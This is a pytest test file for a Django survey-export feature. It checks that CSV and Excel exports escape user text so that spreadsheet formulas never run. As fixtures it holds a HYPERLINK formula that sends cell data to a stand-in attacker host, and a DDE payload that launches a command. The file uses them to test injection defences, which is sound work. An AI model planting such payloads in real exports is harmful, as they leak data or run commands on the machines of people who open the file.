"""Exports are safe to open in a spreadsheet: user text never runs as a formula.

A respondent types a formula as evidence; a coordinator downloads the round's answers and results.
Every export neutralises the text (a leading quote, OWASP's rule for CSV injection), workbook
cells holding it are strings, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from stocktake.io.answers import read_answers
from stocktake_web.assessments.domain import (
    AnswerContent,
    reconcile,
    save_answer,
    start_reconciliation,
)

from .conftest import Cast

PAYLOAD = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'
COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
REASON = "-2+3 agreed in the meeting"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.django_db


def _answer_with_payload(cast: Cast) -> None:
    save_answer(
        answer=cast.answer("G1"),
        user=cast.bob,
        base_version=0,
        content=AnswerContent(value="4", evidence=PAYLOAD, comment=COMMENT),
    )
    save_answer(
        answer=cast.answer("E1"),
        user=cast.bob,
        base_version=0,
        content=AnswerContent(value="2", evidence="-1 since 2023", comment="+44 20 7946 0000"),
    )
    start_reconciliation(round=cast.round)
    reconcile(round=cast.round, indicator="E1", value="3", reason=REASON, by=cast.alice)


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.isascii()


def test_the_answers_csv_neutralises_formulas_in_evidence_comments_and_reasons(
    cast: Cast, client: Client
) -> None:
    _answer_with_payload(cast)
    client.force_login(cast.alice)

    response = client.get(reverse("dashboards:answers_csv", args=[cast.round.pk]))

    rows = _csv_rows(response.content)
    g1 = next(row for row in rows if row["indicator"] == "G1")
    e1 = next(row for row in rows if row["indicator"] == "E1" and row["department"])
    reconciled = next(row for row in rows if row["reconciled"] == "yes")
    assert g1["evidence"] == "'" + PAYLOAD
    assert g1["comment"] == "'" + COMMENT
    assert e1["evidence"] == "'-1 since 2023"
    assert e1["comment"] == "'+44 20 7946 0000"
    assert reconciled["comment"] == "'" + REASON
    assert g1["value"] == "4"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or _is_plain_number(cell), cell


def test_the_answers_csv_reads_back_with_the_text_as_typed(
    cast: Cast, client: Client, tmp_path: Path
) -> None:
    _answer_with_payload(cast)
    client.force_login(cast.alice)
    response = client.get(reverse("dashboards:answers_csv", args=[cast.round.pk]))
    exported = tmp_path / "answers.csv"
    exported.write_bytes(response.content)

    answers = read_answers(exported, framework=cast.framework.load())

    g1 = next(answer for answer in answers if answer.indicator == "G1")
    assert (g1.evidence, g1.comment) == (PAYLOAD, COMMENT)
    assert next(answer for answer in answers if answer.reconciled).comment == REASON


def test_the_results_workbook_has_no_formula_cell_and_quotes_user_text(
    cast: Cast, client: Client
) -> None:
    _answer_with_payload(cast)
    client.force_login(cast.alice)

    response = client.get(reverse("dashboards:results_xlsx", args=[cast.round.pk]))

    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + PAYLOAD in texts
    assert "'" + COMMENT in texts
    assert "'" + REASON in texts
    assert all(not text.startswith(FORMULA_STARTS) for text in texts)
    answers = workbook["answers"]
    header = [cell.value for cell in answers[1]]
    values = [row[header.index("value")] for row in answers.iter_rows(min_row=2, values_only=True)]
    assert 4 in values and all(not isinstance(value, str) for value in values if value)


def test_the_results_csv_has_no_cell_that_starts_a_formula(cast: Cast, client: Client) -> None:
    _answer_with_payload(cast)
    client.force_login(cast.alice)

    response = client.get(reverse("dashboards:results_csv", args=[cast.round.pk]))

    for row in _csv_rows(response.content):
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or _is_plain_number(cell), cell
